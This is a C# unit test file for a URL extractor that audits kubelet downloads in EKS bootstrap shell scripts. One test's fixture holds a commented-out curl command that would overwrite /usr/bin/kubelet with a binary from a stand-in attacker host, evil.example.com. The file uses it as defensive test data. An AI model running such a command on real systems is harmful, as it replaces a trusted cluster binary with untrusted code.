using AmiAudit.Core.Urls;

namespace AmiAudit.Core.Tests.Urls;

/// <summary>URLs as bootstrap scripts really write them (issue 9 item 4).</summary>
public class BootstrapScriptUrlTests
{
    [Fact]
    public void Both_branches_of_a_per_region_if_are_kept()
    {
        // awslabs/amazon-eks-ami install-worker.sh shape (v20200423+): the domain depends on the partition.
        const string script = """
            #!/usr/bin/env bash
            BINARY_BUCKET_NAME="amazon-eks"
            BINARY_BUCKET_REGION="$AWS_REGION"
            if [[ $BINARY_BUCKET_REGION == cn-* ]]; then
              S3_DOMAIN="amazonaws.com.cn"
            elif [[ $BINARY_BUCKET_REGION == us-iso-* ]]; then
              S3_DOMAIN="c2s.ic.gov"
            else
              S3_DOMAIN="amazonaws.com"
            fi
            BINARY_BUCKET_REGION=us-west-2
            S3_URL_BASE="https://$BINARY_BUCKET_NAME.s3.$BINARY_BUCKET_REGION.$S3_DOMAIN/1.29.3/2024-04-19/bin/linux/amd64"
            wget $S3_URL_BASE/kubelet
            """;
        var kubelet = UrlExtractor.Extract(script, "/tmp/install-worker.sh").Where(u => u.Purpose == "kubelet").ToList();
        kubelet.Select(u => u.Normalized).Order(StringComparer.Ordinal).ShouldBe(
        [
            "https://amazon-eks.s3.us-west-2.amazonaws.com.cn/1.29.3/2024-04-19/bin/linux/amd64/kubelet",
            "https://amazon-eks.s3.us-west-2.amazonaws.com/1.29.3/2024-04-19/bin/linux/amd64/kubelet",
            "https://amazon-eks.s3.us-west-2.c2s.ic.gov/1.29.3/2024-04-19/bin/linux/amd64/kubelet",
        ]);
        kubelet.ShouldAllBe(u => !u.Template && u.S3Bucket == "amazon-eks" && u.S3Uri == "s3://amazon-eks/1.29.3/2024-04-19/bin/linux/amd64/kubelet");
        kubelet.ShouldAllBe(u => u.Line == 13);
    }

    [Fact]
    public void A_case_per_region_keeps_every_arm_and_an_unconditional_assignment_ends_the_walk()
    {
        const string script = """
            case "$REGION" in
              us-iso-east-1) S3_DOMAIN=c2s.ic.gov ;;
              cn-north-1|cn-northwest-1) S3_DOMAIN=amazonaws.com.cn ;;
              *) S3_DOMAIN=amazonaws.com ;;
            esac
            curl -o /usr/bin/kubelet https://amazon-eks.s3.us-west-2.$S3_DOMAIN/k
            S3_DOMAIN=amazonaws.com
            curl -o /usr/bin/kubectl https://amazon-eks.s3.us-west-2.$S3_DOMAIN/kubectl
            """;
        var urls = UrlExtractor.Extract(script, "s");
        urls.Where(u => u.Line == 6).Select(u => u.Host).Order(StringComparer.Ordinal).ShouldBe(
            ["amazon-eks.s3.us-west-2.amazonaws.com", "amazon-eks.s3.us-west-2.amazonaws.com.cn", "amazon-eks.s3.us-west-2.c2s.ic.gov"]);
        // Written to /usr/bin/kubelet: a kubelet download whatever the URL's last segment says.
        urls.Where(u => u.Line == 6).ShouldAllBe(u => u.Purpose == "kubelet");
        urls.Where(u => u.Line == 8).ShouldHaveSingleItem().Host.ShouldBe("amazon-eks.s3.us-west-2.amazonaws.com");
    }

    [Fact]
    public void An_unresolved_variable_makes_a_template_never_a_host()
    {
        const string script = """
            BUCKET="$1"
            VERSION=$(curl -s http://169.254.169.254/latest/meta-data/tags/instance/k8s-version)
            curl -o /usr/bin/kubelet "https://$BUCKET.s3.amazonaws.com/$VERSION/kubelet"
            curl -o /usr/bin/kubelet "https://amazon-eks.s3.amazonaws.com/$VERSION/bin/linux/amd64/kubelet"
            """;
        var urls = UrlExtractor.Extract(script, "s").Where(u => u.Purpose == "kubelet").ToList();
        urls.Count.ShouldBe(2);
        urls.ShouldAllBe(u => u.Template);
        urls.ShouldAllBe(u => u.S3Uri == null);
        urls[0].S3Bucket.ShouldBeNull();
        urls[1].S3Bucket.ShouldBe("amazon-eks"); // the bucket is known, the key is not
    }

    [Fact]
    public void S3_cli_forms_give_bucket_and_key()
    {
        const string script = """
            S3_PATH="s3://amazon-eks/1.29.3/2024-04-19/bin/linux/amd64"
            aws s3 cp --region us-west-2 $S3_PATH/kubelet /usr/bin/kubelet
            aws s3api get-object --bucket amazon-eks --key 1.29.3/2024-04-19/bin/linux/amd64/kubelet.sha256 /tmp/kubelet.sha256
            aws s3api get-object --bucket "$MIRROR_BUCKET" --key bin/kubelet /usr/bin/kubelet
            """;
        var urls = UrlExtractor.Extract(script, "s");
        urls.ShouldContain(u => u.Line == 2 && u.S3Uri == "s3://amazon-eks/1.29.3/2024-04-19/bin/linux/amd64/kubelet" && u.Purpose == "kubelet" && !u.Template);
        urls.ShouldContain(u => u.Line == 3 && u.S3Bucket == "amazon-eks" && u.S3Key == "1.29.3/2024-04-19/bin/linux/amd64/kubelet.sha256" && u.Purpose == "kubelet");
        urls.ShouldContain(u => u.Line == 4 && u.Template && u.Purpose == "kubelet");
    }

    [Theory]
    [InlineData("https://s3-us-west-2.amazonaws.com/amazon-eks/1.29.3/2024-04-19/bin/linux/amd64/kubelet")]
    [InlineData("https://s3.us-west-2.amazonaws.com/amazon-eks/1.29.3/2024-04-19/bin/linux/amd64/kubelet")]
    [InlineData("https://amazon-eks.s3.us-west-2.amazonaws.com/1.29.3/2024-04-19/bin/linux/amd64/kubelet")]
    [InlineData("https://amazon-eks.s3-us-west-2.amazonaws.com/1.29.3/2024-04-19/bin/linux/amd64/kubelet")]
    [InlineData("https://amazon-eks.s3.dualstack.us-west-2.amazonaws.com/1.29.3/2024-04-19/bin/linux/amd64/kubelet")]
    [InlineData("https://s3.dualstack.us-west-2.amazonaws.com/amazon-eks/1.29.3/2024-04-19/bin/linux/amd64/kubelet")]
    [InlineData("https://amazon-eks.s3.cn-north-1.amazonaws.com.cn/1.29.3/2024-04-19/bin/linux/amd64/kubelet")]
    [InlineData("https://s3.cn-north-1.amazonaws.com.cn/amazon-eks/1.29.3/2024-04-19/bin/linux/amd64/kubelet")]
    [InlineData("https://amazon-eks.s3.amazonaws.com/1.29.3/2024-04-19/bin/linux/amd64/kubelet")]
    [InlineData("s3://amazon-eks/1.29.3/2024-04-19/bin/linux/amd64/kubelet")]
    public void Every_s3_endpoint_style_normalises_to_one_form(string url) =>
        UrlExtractor.ToFact(url, "s", 1).ShouldNotBeNull().S3Uri.ShouldBe("s3://amazon-eks/1.29.3/2024-04-19/bin/linux/amd64/kubelet");

    [Fact]
    public void Echo_and_comments_are_not_downloads()
    {
        const string script = """
            # curl -o /usr/bin/kubelet https://evil.example.com/kubelet
            echo "fetching https://evil.example.com/kubelet"
            printf '%s\n' "see https://evil.example.com/docs/kubelet"
            logger -t bootstrap "downloaded https://evil.example.com/kubelet"
            curl -fsSL -o /usr/bin/kubelet https://amazon-eks.s3.us-west-2.amazonaws.com/1.29.3/2024-04-19/bin/linux/amd64/kubelet # from https://evil.example.com/notes
            """;
        var urls = UrlExtractor.Extract(script, "s");
        urls.ShouldHaveSingleItem().Host.ShouldBe("amazon-eks.s3.us-west-2.amazonaws.com");
    }

    [Fact]
    public void A_kubelet_download_through_a_variable_named_for_it_is_judged_as_kubelet()
    {
        const string script = """
            KUBELET_BINARY_URL="https://mirror.example.com/bin/k8s-node"
            curl -fsSL -o /tmp/node-bin "$KUBELET_BINARY_URL"
            """;
        var u = UrlExtractor.Extract(script, "s").ShouldHaveSingleItem();
        u.Purpose.ShouldBe("kubelet");
        u.Via.ShouldBe("KUBELET_BINARY_URL");
        u.Template.ShouldBeFalse();
    }

    [Fact]
    public void A_conditional_assignment_on_one_line_keeps_both_values()
    {
        const string script = """
            [ "$PARTITION" = aws-cn ] && DOMAIN=amazonaws.com.cn || DOMAIN=amazonaws.com
            wget -O /usr/bin/kubelet https://amazon-eks.s3.cn-north-1.$DOMAIN/1.29.3/2024-04-19/bin/linux/arm64/kubelet
            """;
        UrlExtractor.Extract(script, "s").Where(u => u.Line == 2).Select(u => u.Host).Order(StringComparer.Ordinal)
            .ShouldBe(["amazon-eks.s3.cn-north-1.amazonaws.com", "amazon-eks.s3.cn-north-1.amazonaws.com.cn"]);
    }
}
